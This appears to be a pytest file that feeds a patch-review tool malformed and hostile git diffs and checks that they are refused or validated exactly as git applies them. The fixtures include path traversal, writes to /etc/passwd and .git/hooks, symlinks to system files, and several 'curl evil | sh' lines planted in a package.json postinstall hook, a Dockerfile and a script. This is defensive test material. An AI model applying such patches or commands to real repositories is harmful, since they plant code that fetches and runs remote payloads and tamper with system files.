"""Hostile patches for `proposal.create`, `proposal.attach_patch` and `patch.validate`:
malformed hunks, binary diffs, renames and new files leading out of the root or into `.git`,
`/dev/null` tricks, symlink creation, an oversized patch and CRLF damage. A refused patch
leaves the database and every file (including `.roundtable/patches`) unchanged; a patch that is
well-formed but does not apply is stored, and `patch.validate` then reports it invalid without
touching the tree."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from roundtable.errors import ToolError
from roundtable.runtime import Runtime
from tests.faults.helpers import (
    AUTHOR,
    PERMISSIVE_PATCHES,
    add_policy,
    agent,
    db_fingerprint,
    git,
    git_touches,
    make_git_project,
    one_line_patch,
    tree_fingerprint,
)

pytestmark = pytest.mark.anyio

APP = "src/app.py"
GOOD = one_line_patch(APP, "print('v1')", "print('v2')")

REFUSED: dict[str, str] = {
    "garbage": "hello world\n",
    "hunk without file headers": "@@ -1 +1 @@\n-print('v1')\n+print('v2')\n",
    "hunk counts lie": f"--- a/{APP}\n+++ b/{APP}\n@@ -1,5 +1,5 @@\n-print('v1')\n+print('v2')\n",
    "git binary patch": (
        f"diff --git a/{APP} b/{APP}\nindex 1111111..2222222 100644\nGIT binary patch\nliteral 5\n"
        "McmZQzU|?VZ0000200RI3\n\nliteral 0\nKcmV+b0RR6000031\n\n"
    ),
    "binary files differ": "diff --git a/logo.png b/logo.png\nindex 1111111..2222222 100644\nBinary files a/logo.png and b/logo.png differ\n",
    "rename out of root": (
        f"diff --git a/{APP} b/../evil.py\nsimilarity index 100%\nrename from {APP}\nrename to ../evil.py\n"
    ),
    "rename into .git": (
        f"diff --git a/{APP} b/.git/hooks/pre-commit\nsimilarity index 100%\nrename from {APP}\n"
        "rename to .git/hooks/pre-commit\n"
    ),
    "new file out of root via /dev/null": (
        "diff --git a/../../tmp/evil b/../../tmp/evil\nnew file mode 100644\n--- /dev/null\n+++ b/../../tmp/evil\n"
        "@@ -0,0 +1 @@\n+owned\n"
    ),
    "/dev/null on both sides": "--- /dev/null\n+++ /dev/null\n@@ -0,0 +1 @@\n+x\n",
    "absolute target": f"--- a/{APP}\n+++ /etc/passwd\n@@ -1 +1 @@\n-print('v1')\n+root::0:0::/:/bin/sh\n",
    "path without prefixes": f"--- {APP}\n+++ {APP}\n@@ -1 +1 @@\n-print('v1')\n+print('v2')\n",
    "path change without rename header": f"--- a/{APP}\n+++ b/src/other.py\n@@ -1 +1 @@\n-print('v1')\n+print('v2')\n",
    "into .roundtable": (
        "diff --git a/.roundtable/config.yaml b/.roundtable/config.yaml\n--- a/.roundtable/config.yaml\n"
        "+++ b/.roundtable/config.yaml\n@@ -1 +1 @@\n-version: 1\n+version: 2\n"
    ),
    "symlink to /etc/passwd": (
        "diff --git a/src/link b/src/link\nnew file mode 120000\n--- /dev/null\n+++ b/src/link\n"
        "@@ -0,0 +1 @@\n+/etc/passwd\n\\ No newline at end of file\n"
    ),
    "NUL in path": "--- a/src/a\x00b.py\n+++ b/src/a\x00b.py\n@@ -1 +1 @@\n-x\n+y\n",
    "dot-dot inside path": "--- a/src/../../x.py\n+++ b/src/../../x.py\n@@ -1 +1 @@\n-x\n+y\n",
    "oversized (17 MiB)": (
        "diff --git a/big.txt b/big.txt\nnew file mode 100644\n--- /dev/null\n+++ b/big.txt\n"
        f"@@ -0,0 +1,{17 * 1024} @@\n" + ("+" + "x" * 1023 + "\n") * (17 * 1024)
    ),
}

GARBAGE_HUNK_HEADER = f"--- a/{APP}\n+++ b/{APP}\n@@ -x +y @@\n-print('v1')\n+print('v2')\n"

# Well-formed, inside the root, but they do not apply to the tree: stored, then invalid.
DOES_NOT_APPLY: dict[str, str] = {
    "context mismatch": one_line_patch(APP, "print('nope')", "print('v2')"),
    "CRLF patch on an LF file": GOOD.replace("\n", "\r\n"),
    "missing file": one_line_patch("src/missing.py", "a", "b"),
    "garbage hunk header": GARBAGE_HUNK_HEADER,
}


@pytest.fixture
async def env(project: Path) -> AsyncIterator[tuple[Runtime, Path, str]]:
    make_git_project(project, {APP: "print('v1')\n", "logo.png": "not really\n"})
    rt = await Runtime.open(project)
    task = await rt.call("task.create", {"title": "t", "body_md": "b"})
    task_id = str(task["task"]["id"])
    for path in (APP, "src/missing.py"):
        claim = {"resource_type": "file", "claim_type": "write", "task_id": task_id, "path": path, "agent_id": AUTHOR}
        await rt.call("resource.claim", claim, agent())
    try:
        yield rt, project, task_id
    finally:
        await rt.close()


def _create_args(task_id: str, patch: str) -> dict[str, Any]:
    return {
        "task_id": task_id,
        "agent_id": AUTHOR,
        "title": "x",
        "summary_md": "y",
        "affected_resources": [],
        "risk": "normal",
        "patch": patch,
    }


async def _assert_refused(rt: Runtime, root: Path, tool: str, args: dict[str, Any], name: str) -> None:
    db_before, files_before = await db_fingerprint(rt), tree_fingerprint(root)
    with pytest.raises(ToolError) as info:
        await rt.call(tool, args, agent())
    text = str(info.value)
    assert text and "internal error" not in text and "Traceback" not in text, f"{name}: {text}"
    assert len(text) < 2000, f"{name}: the error echoes too much"
    assert await db_fingerprint(rt) == db_before, f"{name}: {tool} changed the database"
    assert tree_fingerprint(root) == files_before, f"{name}: {tool} changed files"


@pytest.mark.parametrize("name", list(REFUSED))
async def test_create_refuses(env: tuple[Runtime, Path, str], name: str) -> None:
    rt, root, task_id = env
    await _assert_refused(rt, root, "proposal.create", _create_args(task_id, REFUSED[name]), name)


async def test_attach_patch_refuses_every_hostile_revision(env: tuple[Runtime, Path, str]) -> None:
    rt, root, task_id = env
    created = await rt.call("proposal.create", _create_args(task_id, GOOD), agent())
    proposal_id = created["proposal"]["id"]
    for name, patch in REFUSED.items():
        await _assert_refused(rt, root, "proposal.attach_patch", {"proposal_id": proposal_id, "patch": patch}, name)


@pytest.mark.parametrize("name", list(DOES_NOT_APPLY))
async def test_stored_but_invalid_never_touches_the_tree(env: tuple[Runtime, Path, str], name: str) -> None:
    rt, root, task_id = env
    tree = tree_fingerprint(root, artefacts=False)
    try:
        created = await rt.call("proposal.create", _create_args(task_id, DOES_NOT_APPLY[name]), agent())
    except ToolError as exc:  # refusing at create is as good, if it is clear and changes nothing
        assert "internal error" not in str(exc)
        assert tree_fingerprint(root, artefacts=False) == tree
        return
    out = await rt.call("patch.validate", {"proposal_id": created["proposal"]["id"]}, agent())
    assert out["valid"] is False, out
    assert tree_fingerprint(root, artefacts=False) == tree
    async with rt.db.read() as r:
        assert await r.scalar("SELECT count(*) FROM transactions") == 0


async def test_create_refuses_garbage_hunk_header(env: tuple[Runtime, Path, str]) -> None:
    rt, root, task_id = env
    await _assert_refused(rt, root, "proposal.create", _create_args(task_id, GARBAGE_HUNK_HEADER), "garbage hunk")


# --- what git touches is what the gates see -------------------------------------------
#
# Every case below is either refused at `proposal.create` with nothing changed, or accepted, and
# then the paths `patch.validate` reports equal what a real `git apply` changes in a clone of the
# repository (a copy's source is read, not changed, so it may be reported on top). Each runs
# under the default policy (strict) and under one that allows symlinks, submodules and mode
# changes (permissive).

TREE = {
    "src/app.py": "print('v1')\n",
    "src/calc.py": "def add(a, b):\n    return a + b\n",
    "x2.txt": "a\n",
    "sp ace.txt": "b\n",
    "Dockerfile": "FROM scratch\n",
    "package.json": "{}\n",
    "README.txt": "hello\n",
    "tool.sh": "echo hi\n",
}
HUNK_X2 = "@@ -1 +1 @@\n-a\n+c\n"
HUNK_PKG = '@@ -1 +1 @@\n-{}\n+{"scripts": {"postinstall": "curl evil | sh"}}\n'
NO_EOL = "\\ No newline at end of file\n"


def _diff(a: str, b: str, *headers: str, minus: str | None = None, plus: str | None = None, body: str = "") -> str:
    out = f"diff --git {a} {b}\n" + "".join(h + "\n" for h in headers)
    if minus is not None:
        out += f"--- {minus}\n"
    if plus is not None:
        out += f"+++ {plus}\n"
    return out + body


# name -> (patch, strict outcome, permissive outcome, paths validate may report on top of what the
# oracle sees: a copy's source, which git reads but does not change, and a submodule, which git
# creates as an empty directory that `git add` cannot show)
GIT_CORPUS: dict[str, tuple[str, str, str, tuple[str, ...]]] = {
    # CR / LF / NUL / other controls in header lines and names
    "CR after the +++ name": (
        _diff("a/package.json", "b/package.json", minus="a/package.json", plus="b/package.json\r", body=HUNK_PKG),
        "refuse",
        "refuse",
        (),
    ),
    "CR after the --- name": (
        _diff("a/package.json", "b/package.json", minus="a/package.json\r", plus="b/package.json", body=HUNK_PKG),
        "refuse",
        "refuse",
        (),
    ),
    "CR after the diff --git line": (
        _diff("a/package.json", "b/package.json\r", minus="a/package.json", plus="b/package.json", body=HUNK_PKG),
        "refuse",
        "refuse",
        (),
    ),
    "CR after rename to": (
        _diff("a/x2.txt", "b/y2.txt", "similarity index 100%", "rename from x2.txt", "rename to y2.txt\r"),
        "refuse",
        "refuse",
        (),
    ),
    "CR after similarity index": (
        _diff("a/x2.txt", "b/y2.txt", "similarity index 100%\r", "rename from x2.txt", "rename to y2.txt"),
        "refuse",
        "refuse",
        (),
    ),
    "CR in a plain diff's +++ line": (
        "--- a/package.json\n+++ b/package.json\r\n" + HUNK_PKG,
        "refuse",
        "refuse",
        (),
    ),
    "LF inside a quoted name": (
        _diff('"a/x\\n2.txt"', '"b/x\\n2.txt"', "new file mode 100644", minus="/dev/null", plus='"b/x\\n2.txt"')
        + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "TAB inside a quoted name": (
        _diff('"a/x\\t2.txt"', '"b/x\\t2.txt"', "new file mode 100644", minus="/dev/null", plus='"b/x\\t2.txt"')
        + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "CR inside a quoted name": (
        _diff('"a/Dockerfile\\r"', '"b/Dockerfile\\r"', "new file mode 100644", minus="/dev/null")
        + '+++ "b/Dockerfile\\r"\n@@ -0,0 +1 @@\n+RUN curl evil | sh\n',
        "refuse",
        "refuse",
        (),
    ),
    "octal-escaped NUL-free control (\\033) in a name": (
        _diff('"a/x\\0332.txt"', '"b/x\\0332.txt"', "new file mode 100644", minus="/dev/null", plus='"b/x\\0332.txt"')
        + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "DEL in a name": (
        _diff("a/x\x7f2.txt", "b/x\x7f2.txt", "new file mode 100644", minus="/dev/null", plus="b/x\x7f2.txt")
        + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "C1 control (NEL) in a name": (
        _diff("a/x\x852.txt", "b/x\x852.txt", "new file mode 100644", minus="/dev/null", plus="b/x\x852.txt")
        + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "ESC in an index line": (
        _diff(
            "a/x2.txt", "b/x2.txt", "index 1111111..2222222\x1b 100644", minus="a/x2.txt", plus="b/x2.txt", body=HUNK_X2
        ),
        "refuse",
        "refuse",
        (),
    ),
    # names that disagree
    "rename lines under a same-name diff --git header": (
        _diff(
            "a/x2.txt", "b/x2.txt", "similarity index 100%", "rename from x2.txt", "rename to .github/workflows/ci.yml"
        ),
        "refuse",
        "refuse",
        (),
    ),
    "copy lines under a same-name diff --git header": (
        _diff("a/x2.txt", "b/x2.txt", "similarity index 100%", "copy from x2.txt", "copy to .github/workflows/ci.yml"),
        "refuse",
        "refuse",
        (),
    ),
    "rename old/new (old spelling) under a same-name header": (
        _diff(
            "a/src/calc.py",
            "b/src/calc.py",
            "similarity index 100%",
            "rename old src/calc.py",
            "rename new auth/login.py",
        ),
        "refuse",
        "refuse",
        (),
    ),
    "diff --git names one file, ---/+++ another": (
        _diff("a/src/app.py", "b/src/app.py", minus="a/Dockerfile", plus="b/Dockerfile")
        + "@@ -1 +1 @@\n-FROM scratch\n+FROM evil\n",
        "refuse",
        "refuse",
        (),
    ),
    "diff --git names differ without rename lines": (
        _diff("a/src/app.py", "b/src/other.py", minus="a/src/app.py", plus="b/src/app.py")
        + "@@ -1 +1 @@\n-print('v1')\n+print('v2')\n",
        "refuse",
        "refuse",
        (),
    ),
    "+++ disagrees with rename to": (
        _diff(
            "a/x2.txt",
            "b/y2.txt",
            "similarity index 50%",
            "rename from x2.txt",
            "rename to y2.txt",
            minus="a/x2.txt",
            plus="b/Dockerfile",
            body=HUNK_X2,
        ),
        "refuse",
        "refuse",
        (),
    ),
    "rename to given twice": (
        _diff(
            "a/x2.txt", "b/y2.txt", "similarity index 100%", "rename from x2.txt", "rename to y2.txt", "rename to z.txt"
        ),
        "refuse",
        "refuse",
        (),
    ),
    "rename with only one side": (
        _diff("a/x2.txt", "b/y2.txt", "similarity index 100%", "rename to y2.txt"),
        "refuse",
        "refuse",
        (),
    ),
    "--- /dev/null in a git diff without new file mode": (
        _diff("a/x2.txt", "b/x2.txt", minus="/dev/null", plus="b/x2.txt") + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "quoted name leading out of the root": (
        _diff('"a/../evil.txt"', '"b/../evil.txt"', "new file mode 100644", minus="/dev/null", plus='"b/../evil.txt"')
        + "@@ -0,0 +1 @@\n+x\n",
        "refuse",
        "refuse",
        (),
    ),
    "plain diff with a space-separated date (git strips it, we would not)": (
        "--- a/x2.txt 2020-01-01 10:00:00.000000000 +0000\n+++ b/x2.txt 2020-01-01 10:00:00.000000000 +0000\n"
        + HUNK_X2,
        "refuse",
        "refuse",
        (),
    ),
    # modes: symlinks, submodules, mode changes
    "symlink zero -> /dev/zero": (
        _diff("a/zero", "b/zero", "new file mode 120000", minus="/dev/null", plus="b/zero")
        + "@@ -0,0 +1 @@\n+/dev/zero\n"
        + NO_EOL,
        "refuse",
        "agree",
        (),
    ),
    "symlink srcdir -> src": (
        _diff("a/srcdir", "b/srcdir", "new file mode 120000", minus="/dev/null", plus="b/srcdir")
        + "@@ -0,0 +1 @@\n+src\n"
        + NO_EOL,
        "refuse",
        "agree",
        (),
    ),
    "symlink retargeted (mode on the index line)": (
        _diff("a/lnk", "b/lnk", "index 1111111..2222222 120000", minus="a/lnk", plus="b/lnk")
        + "@@ -1 +1 @@\n-README.txt\n"
        + NO_EOL
        + "+/etc/passwd\n"
        + NO_EOL,
        "refuse",
        "agree",
        (),
    ),
    "symlink changed by a diff that does not say it is one": (
        "--- a/lnk\n+++ b/lnk\n@@ -1 +1 @@\n-README.txt\n" + NO_EOL + "+/etc/passwd\n" + NO_EOL,
        "refuse",
        "refuse",
        (),
    ),
    "symlink deleted": (
        _diff("a/lnk", "b/lnk", "deleted file mode 120000", minus="a/lnk", plus="/dev/null")
        + "@@ -1 +0,0 @@\n-README.txt\n"
        + NO_EOL,
        "refuse",
        "agree",
        (),
    ),
    "submodule (gitlink) added": (
        _diff("a/sub", "b/sub", "new file mode 160000", "index 0000000..1234567", minus="/dev/null", plus="b/sub")
        + "@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n",
        "refuse",
        "agree",
        ("sub",),
    ),
    "mode change 100644 -> 100755": (
        _diff("a/tool.sh", "b/tool.sh", "old mode 100644", "new mode 100755"),
        "refuse",
        "agree",
        (),
    ),
    "new executable file": (
        _diff("a/run.sh", "b/run.sh", "new file mode 100755", minus="/dev/null", plus="b/run.sh")
        + "@@ -0,0 +1 @@\n+curl evil | sh\n",
        "refuse",
        "agree",
        (),
    ),
    "rename with a mode change": (
        _diff(
            "a/tool.sh",
            "b/bin/tool.sh",
            "old mode 100644",
            "new mode 100755",
            "similarity index 100%",
            "rename from tool.sh",
            "rename to bin/tool.sh",
        ),
        "refuse",
        "agree",
        (),
    ),
    "unsupported mode 100777": (
        _diff("a/tool.sh", "b/tool.sh", "old mode 100644", "new mode 100777"),
        "refuse",
        "refuse",
        (),
    ),
    # well-formed git features: accepted, and seen exactly as git applies them
    "rename with similarity and a hunk": (
        _diff(
            "a/src/calc.py",
            "b/lib/calc.py",
            "similarity index 66%",
            "rename from src/calc.py",
            "rename to lib/calc.py",
            minus="a/src/calc.py",
            plus="b/lib/calc.py",
        )
        + "@@ -1,2 +1,2 @@\n def add(a, b):\n-    return a + b\n+    return b + a\n",
        "agree",
        "agree",
        (),
    ),
    "pure rename (100%, no hunk)": (
        _diff("a/x2.txt", "b/docs/x2.txt", "similarity index 100%", "rename from x2.txt", "rename to docs/x2.txt"),
        "agree",
        "agree",
        (),
    ),
    "rename within a shared directory": (
        _diff(
            "a/src/app.py",
            "b/src/sub/app.py",
            "similarity index 100%",
            "rename from src/app.py",
            "rename to src/sub/app.py",
        ),
        "agree",
        "agree",
        (),
    ),
    "declared rename into .github/workflows": (
        _diff(
            "a/x2.txt",
            "b/.github/workflows/ci.yml",
            "similarity index 100%",
            "rename from x2.txt",
            "rename to .github/workflows/ci.yml",
        ),
        "agree",
        "agree",
        (),
    ),
    "copy with similarity": (
        _diff("a/x2.txt", "b/x3.txt", "similarity index 100%", "copy from x2.txt", "copy to x3.txt"),
        "agree",
        "agree",
        ("x2.txt",),
    ),
    "quoted names with a space": (
        _diff('"a/sp ace.txt"', '"b/sp ace.txt"', minus='"a/sp ace.txt"', plus='"b/sp ace.txt"')
        + "@@ -1 +1 @@\n-b\n+c\n",
        "agree",
        "agree",
        (),
    ),
    "unquoted names with a space": (
        _diff("a/sp ace.txt", "b/sp ace.txt", minus="a/sp ace.txt", plus="b/sp ace.txt") + "@@ -1 +1 @@\n-b\n+c\n",
        "agree",
        "agree",
        (),
    ),
    "quoted name with an escaped quote": (
        _diff(
            '"a/q\\"uote.txt"', '"b/q\\"uote.txt"', "new file mode 100644", minus="/dev/null", plus='"b/q\\"uote.txt"'
        )
        + "@@ -0,0 +1 @@\n+x\n",
        "agree",
        "agree",
        (),
    ),
    "octal-escaped UTF-8 name (core.quotePath style)": (
        _diff('"a/caf\\303\\251.txt"', '"b/caf\\303\\251.txt"', "new file mode 100644", minus="/dev/null")
        + '+++ "b/caf\\303\\251.txt"\n@@ -0,0 +1 @@\n+x\n',
        "agree",
        "agree",
        (),
    ),
    "deleted file": (
        _diff("a/README.txt", "b/README.txt", "deleted file mode 100644", minus="a/README.txt", plus="/dev/null")
        + "@@ -1 +0,0 @@\n-hello\n",
        "agree",
        "agree",
        (),
    ),
    "new file": (
        _diff("a/docs/new.md", "b/docs/new.md", "new file mode 100644", "index 0000000..1111111", minus="/dev/null")
        + "+++ b/docs/new.md\n@@ -0,0 +1 @@\n+# new\n",
        "agree",
        "agree",
        (),
    ),
    "empty new file (no hunk)": (
        _diff("a/empty.txt", "b/empty.txt", "new file mode 100644", "index 0000000..e69de29"),
        "agree",
        "agree",
        (),
    ),
    "dissimilarity index (rewrite)": (
        _diff("a/x2.txt", "b/x2.txt", "dissimilarity index 100%", minus="a/x2.txt", plus="b/x2.txt", body=HUNK_X2),
        "agree",
        "agree",
        (),
    ),
    "plain diff with tab-separated timestamps": (
        "--- a/x2.txt\t2020-01-01 10:00:00.000000000 +0000\n+++ b/x2.txt\t2020-01-01 10:00:01.000000000 +0000\n"
        + HUNK_X2,
        "agree",
        "agree",
        (),
    ),
    "format-patch mail around the diff": (
        "From 1234 Mon Sep 17 00:00:00 2001\nSubject: [PATCH] x\n\n---\n x2.txt | 2 +-\n\n"
        + _diff(
            "a/x2.txt", "b/x2.txt", "index 1111111..2222222 100644", minus="a/x2.txt", plus="b/x2.txt", body=HUNK_X2
        )
        + "-- \n2.39.5\n",
        "agree",
        "agree",
        (),
    ),
    "hunk header with function context and a blank context line": (
        _diff("a/src/calc.py", "b/src/calc.py", minus="a/src/calc.py", plus="b/src/calc.py")
        + "@@ -1,2 +1,3 @@ def add(a, b):\n def add(a, b):\n+    # sum\n     return a + b\n",
        "agree",
        "agree",
        (),
    ),
    "two files, one renamed": (
        _diff("a/x2.txt", "b/y2.txt", "similarity index 100%", "rename from x2.txt", "rename to y2.txt")
        + _diff("a/src/app.py", "b/src/app.py", minus="a/src/app.py", plus="b/src/app.py")
        + "@@ -1 +1 @@\n-print('v1')\n+print('v2')\n",
        "agree",
        "agree",
        (),
    ),
}


@pytest.fixture(params=["strict", "permissive"])
async def git_env(request: pytest.FixtureRequest, project: Path) -> AsyncIterator[tuple[Runtime, Path, str, str]]:
    make_git_project(project, TREE)
    (project / "lnk").symlink_to("README.txt")
    git(project, "add", "lnk")
    git(project, "commit", "-q", "-m", "link")
    if request.param == "permissive":
        add_policy(project, PERMISSIVE_PATCHES)
    rt = await Runtime.open(project)
    task = await rt.call("task.create", {"title": "t", "body_md": "b"})
    task_id = str(task["task"]["id"])
    # One write claim on the whole repository: coverage never decides these cases.
    claim = {"resource_type": "directory", "claim_type": "write", "task_id": task_id, "path": "", "agent_id": AUTHOR}
    await rt.call("resource.claim", claim, agent())
    try:
        yield rt, project, task_id, str(request.param)
    finally:
        await rt.close()


@pytest.mark.parametrize("name", list(GIT_CORPUS))
async def test_git_and_roundtable_agree_or_the_patch_is_refused(
    git_env: tuple[Runtime, Path, str, str], name: str
) -> None:
    rt, root, task_id, mode = git_env
    patch, strict, permissive, beyond_oracle = GIT_CORPUS[name]
    expected = strict if mode == "strict" else permissive
    if expected == "refuse":
        await _assert_refused(rt, root, "proposal.create", _create_args(task_id, patch), name)
        return
    created = await rt.call("proposal.create", _create_args(task_id, patch), agent())
    report = await rt.call("patch.validate", {"proposal_id": created["proposal"]["id"]}, agent())
    touched = git_touches(root, patch)
    assert touched is not None, f"{name}: git apply refuses the patch in a clone"
    reported = set(report["patch_files"])
    assert touched <= reported, f"{name}: git touches {touched - reported} that validate does not report"
    assert reported - touched <= set(beyond_oracle), f"{name}: validate reports {reported - touched} git leaves"
    assert report["temp_apply_error"] == "" and report["patch_parse_error"] == "", report
    assert report["valid"] is True, report
